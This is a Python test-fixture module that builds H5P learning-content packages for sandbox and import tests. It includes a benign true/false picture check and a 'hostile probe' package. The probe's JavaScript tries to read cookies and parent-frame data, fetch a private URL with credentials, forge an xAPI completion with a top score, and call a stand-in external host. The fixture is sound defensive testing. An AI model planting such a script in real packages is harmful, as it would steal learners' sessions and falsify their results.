"""Packages for the h5p tests, built in code (the repository holds no .h5p files)."""

import io
import json

from h5p.builder import build_package, h5p_json
from h5p.services import import_package

HOSTILE_LIBRARY = {
    "title": "Hostile probe",
    "machineName": "BOUNCE.Hostile",
    "majorVersion": 1,
    "minorVersion": 0,
    "patchVersion": 0,
    "runnable": 1,
    "preloadedJs": [{"path": "hostile.js"}],
}

# Tries what a malicious package author would try, and writes what it got into its own DOM.
HOSTILE_JS = r"""
var H5P = H5P || {};
H5P.Hostile = function (params) {
  H5P.EventDispatcher.call(this);
  this.attach = function ($container) {
    var el = $container.get(0);
    var out = {};
    try { out.cookie = 'READ:' + document.cookie; } catch (e) { out.cookie = 'ERR:' + e.name; }
    try { out.parentDocument = 'READ:' + window.parent.document.title; } catch (e) { out.parentDocument = 'ERR:' + e.name; }
    try { out.parentCookie = 'READ:' + window.parent.document.cookie; } catch (e) { out.parentCookie = 'ERR:' + e.name; }
    try { out.topLocation = 'READ:' + window.top.location.href; } catch (e) { out.topLocation = 'ERR:' + e.name; }
    var done = function () { el.setAttribute('data-probe', JSON.stringify(out)); el.textContent = 'probe klaar'; };
    fetch(params.privateUrl, {credentials: 'include'})
      .then(function (r) { return r.text(); })
      .then(function (t) { out.fetch = 'READ:' + t.slice(0, 2000); })
      .catch(function (e) { out.fetch = 'ERR:' + e.name; })
      .then(function () {
        return fetch(params.privateUrl, {credentials: 'include', mode: 'no-cors'})
          .then(function (r) { out.noCors = r.type + ':' + r.status; })
          .catch(function (e) { out.noCors = 'ERR:' + e.name; });
      })
      .then(function () {
        return fetch(params.xapiUrl, {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'},
          body: JSON.stringify({statement: {verb: {id: 'http://adlnet.gov/expapi/verbs/completed'}, object: {id: 'http://x'}, result: {score: {raw: 99, max: 99}}}})})
          .then(function (r) { out.xapiPost = 'STATUS:' + r.status; })
          .catch(function (e) { out.xapiPost = 'ERR:' + e.name; });
      })
      .then(function () {
        return fetch('http://elders.example.invalid/steel?antwoord=1').then(function () { out.external = 'SENT'; })
          .catch(function (e) { out.external = 'ERR:' + e.name; });
      })
      .then(done, done);
  };
};
H5P.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
window.BOUNCE = window.BOUNCE || {};
window.BOUNCE.Hostile = H5P.Hostile;
"""


def hostile_package(private_url, xapi_url):
    main = {"machineName": "BOUNCE.Hostile", "majorVersion": 1, "minorVersion": 0}
    return build_package(
        manifest=h5p_json(title="Vijandig pakket", main=main),
        content={"privateUrl": private_url, "xapiUrl": xapi_url},
        extra_files=[
            ("BOUNCE.Hostile-1.0/library.json", json.dumps(HOSTILE_LIBRARY).encode()),
            ("BOUNCE.Hostile-1.0/hostile.js", HOSTILE_JS.encode()),
        ],
    )


def make_activity(title="Zelfcheck", slug=None, **kwargs):
    data = build_package(title=title, **kwargs)
    return import_package(io.BytesIO(data), filename="test.h5p", slug=slug).activity


def record(activity, learner_key, statement, children=()):
    """Store a statement as the xAPI endpoint does: parsed and checked by ``xapi`` first."""
    from h5p.services import record_statement
    from h5p.xapi import parse_payload

    return record_statement(activity, learner_key, parse_payload({"statement": statement, "children": list(children)}))


# A single-question content type shaped like H5P.TrueFalse (one parentless "answered" statement
# that is itself the question) which draws the content image onto a canvas and reads a pixel
# back, as image sliders and Agamotto do: without CORS for package images the canvas is
# "tainted" and reading it throws a SecurityError.
PICTURE_CHECK_JS = r"""
(function () {
  var PictureCheck = function (params, contentId) {
    H5P.EventDispatcher.call(this);
    var self = this;
    this.attach = function ($container) {
      var el = $container.get(0);
      el.classList.add('bounce-pc');
      el.innerHTML = '';
      var img = document.createElement('img');
      img.alt = params.alt;
      img.addEventListener('load', function () {
        var canvas = document.createElement('canvas');
        canvas.width = img.naturalWidth; canvas.height = img.naturalHeight;
        var ctx = canvas.getContext('2d');
        ctx.drawImage(img, 0, 0);
        try {
          var px = ctx.getImageData(0, 0, 1, 1).data;
          el.setAttribute('data-canvas', 'ok:' + px[0] + ',' + px[1] + ',' + px[2]);
        } catch (e) { el.setAttribute('data-canvas', 'ERR:' + e.name); }
      });
      img.addEventListener('error', function () { el.setAttribute('data-canvas', 'ERR:load'); });
      H5P.setSource(img, params.image, contentId);
      el.appendChild(img);
      var question = document.createElement('p');
      question.textContent = params.question;
      el.appendChild(question);
      var verdict = document.createElement('p');
      verdict.setAttribute('role', 'status');
      ['Waar', 'Niet waar'].forEach(function (label, i) {
        var button = document.createElement('button');
        button.type = 'button';
        button.textContent = label;
        button.addEventListener('click', function () {
          var answer = i === 0;
          var right = answer === params.correct;
          var event = self.createXAPIEventTemplate('answered');
          event.setScoredResult(right ? 1 : 0, 1, self, true, right);
          var statement = event.data.statement;
          statement.object.definition = Object.assign(statement.object.definition || {}, {
            description: {'nl-NL': params.question},
            type: 'http://adlnet.gov/expapi/activities/cmi.interaction',
            interactionType: 'true-false',
            correctResponsesPattern: [String(params.correct)]
          });
          statement.result.response = String(answer);
          self.trigger(event);
          verdict.textContent = right ? 'Goed!' : 'Helaas.';
        });
        el.appendChild(button);
      });
      el.appendChild(verdict);
    };
  };
  PictureCheck.prototype = Object.create(H5P.EventDispatcher.prototype);
  PictureCheck.prototype.constructor = PictureCheck;
  window.BOUNCE = window.BOUNCE || {};
  window.BOUNCE.PictureCheck = PictureCheck;
})();
"""


def red_png(size=4):
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (size, size), (200, 30, 40)).save(buffer, format="PNG")
    return buffer.getvalue()


def _library(name, major, minor, patch, runnable=0, js=None, deps=()):
    data = {"title": name, "machineName": name, "majorVersion": major, "minorVersion": minor, "patchVersion": patch,
            "runnable": runnable, "license": "MIT", "author": "BOUNCE"}
    if js:
        data["preloadedJs"] = [{"path": js}]
    if deps:
        data["preloadedDependencies"] = [{"machineName": d[0], "majorVersion": d[1], "minorVersion": d[2]} for d in deps]
    return json.dumps(data).encode()


def real_export_package(title="Plaatjescheck", question="Op dit plaatje staat rood.", correct=True):
    """Shaped like a real export from Lumi/Moodle: a stray README.txt and LICENSE at the root, a
    helper library in two versions (only one used), ``language/*.json`` (including the dotted
    ``.en.json`` template that real libraries carry), and a content image drawn on a canvas."""
    main = {"machineName": "BOUNCE.PictureCheck", "majorVersion": 1, "minorVersion": 2}
    manifest = h5p_json(title=title, main=main, dependencies=[
        main, {"machineName": "BOUNCE.Colours", "majorVersion": 2, "minorVersion": 1},
    ])
    language = json.dumps({"semantics": [{"label": "Vraag"}]}).encode()
    return build_package(
        manifest=manifest,
        content={"question": question, "correct": correct, "alt": "Een rood vlak",
                 "image": {"path": "images/beeld.png", "mime": "image/png", "width": 4, "height": 4}},
        extra_files=[
            ("README.txt", b"Exported with Lumi. This file is not part of the content."),
            ("LICENSE", b"CC BY 4.0"),
            ("content/images/beeld.png", red_png()),
            ("BOUNCE.PictureCheck-1.2/library.json",
             _library("BOUNCE.PictureCheck", 1, 2, 7, runnable=1, js="picture-check.js", deps=[("BOUNCE.Colours", 2, 1)])),
            ("BOUNCE.PictureCheck-1.2/picture-check.js", PICTURE_CHECK_JS.encode()),
            ("BOUNCE.PictureCheck-1.2/language/nl.json", language),
            ("BOUNCE.PictureCheck-1.2/language/pt-br.json", language),
            ("BOUNCE.PictureCheck-1.2/language/.en.json", language),
            ("BOUNCE.Colours-2.1/library.json", _library("BOUNCE.Colours", 2, 1, 3, js="colours.js")),
            ("BOUNCE.Colours-2.1/colours.js", b"window.BOUNCE = window.BOUNCE || {}; window.BOUNCE.colours = 21;"),
            ("BOUNCE.Colours-2.1/language/nl.json", language),
            ("BOUNCE.Colours-2.0/library.json", _library("BOUNCE.Colours", 2, 0, 9, js="colours.js")),
            ("BOUNCE.Colours-2.0/colours.js", b"window.BOUNCE = window.BOUNCE || {}; window.BOUNCE.colours = 20;"),
        ],
        omit={"BOUNCE.Zelfcheck-1.0/" + n for n in ("library.json", "zelfcheck.js", "zelfcheck.css", "semantics.json")},
    )
